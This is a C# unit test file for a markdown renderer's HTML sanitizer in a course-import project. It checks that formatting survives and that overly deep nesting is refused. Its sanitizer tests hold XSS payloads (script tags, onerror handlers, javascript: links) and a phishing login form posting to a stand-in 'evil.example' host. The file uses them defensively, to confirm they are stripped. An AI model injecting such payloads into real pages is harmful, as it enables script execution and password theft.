using CourseFunctions.Core.Courses;

namespace CourseFunctions.Import.Tests;

public class MarkdownRendererTests
{
    private static string Html(string markdown) => MarkdownRenderer.Render(markdown)!.Html;

    [Fact]
    public void Renders_markdown_once_and_keeps_what_was_written()
    {
        var text = MarkdownRenderer.Render("A *theory* of [deep](https://x.org/) learning")!;
        Assert.Equal("A *theory* of [deep](https://x.org/) learning", text.Markdown);
        Assert.Equal("<p>A <em>theory</em> of <a href=\"https://x.org/\">deep</a> learning</p>", text.Html);
    }

    [Theory]
    [InlineData(null)]
    [InlineData("  \n")]
    public void No_text_is_null(string? markdown) => Assert.Null(MarkdownRenderer.Render(markdown));

    [Theory]
    [InlineData("<script>alert(1)</script>Hi", "script")]
    [InlineData("<img src=x onerror=alert(1)>", "onerror")]
    [InlineData("[click](javascript:alert(1))", "javascript:")]
    [InlineData("[click](JaVa\tScRiPt:alert(1))", "href")]
    [InlineData("<a href=\"data:text/html,<script>x</script>\">x</a>", "data:")]
    // The phishing form and overlay, in the course's own description.
    [InlineData("<form action=\"https://evil.example/steal\"><input type=password name=p><button>Log in</button></form>", "<form")]
    [InlineData("<form action=\"https://evil.example/steal\"><input type=password name=p></form>", "<input")]
    [InlineData("<div style=\"position:fixed;inset:0;z-index:9999\">Pay here</div>", "style")]
    [InlineData("<p class=\"fixed-top\">x</p>", "class")]
    [InlineData("<iframe src=\"https://evil.example\"></iframe>", "iframe")]
    [InlineData("<object data=\"x.swf\"></object>", "object")]
    [InlineData("<svg><script>alert(1)</script></svg>", "svg")]
    [InlineData("Text {#id .fixed-top style=\"position:fixed\"}", "position")]
    public void Keeps_only_formatting_lists_tables_links_headings_and_code(string markdown, string forbidden) =>
        Assert.DoesNotContain(forbidden, Html(markdown), StringComparison.OrdinalIgnoreCase);

    [Fact]
    public void Tables_headings_code_and_mail_links_survive()
    {
        var html = Html("## Grading\n\n| Part | Weight |\n|---|---|\n| Exam | 60% |\n\n`code` and [mail](mailto:a@b.org) and [site](/teaching/x)");
        foreach (var kept in new[] { "<h2", "<table>", "<td>Exam</td>", "<code>code</code>", "href=\"mailto:a@b.org\"", "href=\"/teaching/x\"" })
            Assert.Contains(kept, html);
    }

    [Theory]
    [InlineData(200)]
    [InlineData(40)]
    public void Text_nested_too_deeply_is_refused_when_written(int depth)
    {
        var quotes = string.Concat(Enumerable.Repeat("> ", depth)) + "deep";
        Assert.Throws<MarkdownTooDeepException>(() => MarkdownRenderer.Render(quotes));
        var lists = string.Concat(Enumerable.Range(0, depth).Select(i => new string(' ', 2 * i) + "- item\n"));
        Assert.Throws<MarkdownTooDeepException>(() => MarkdownRenderer.Render(lists));
    }

    [Fact]
    public void Ordinary_nesting_is_fine() =>
        Assert.Contains("<blockquote>", Html("> > quoted twice\n\n- a\n  - b\n    - c"));
}
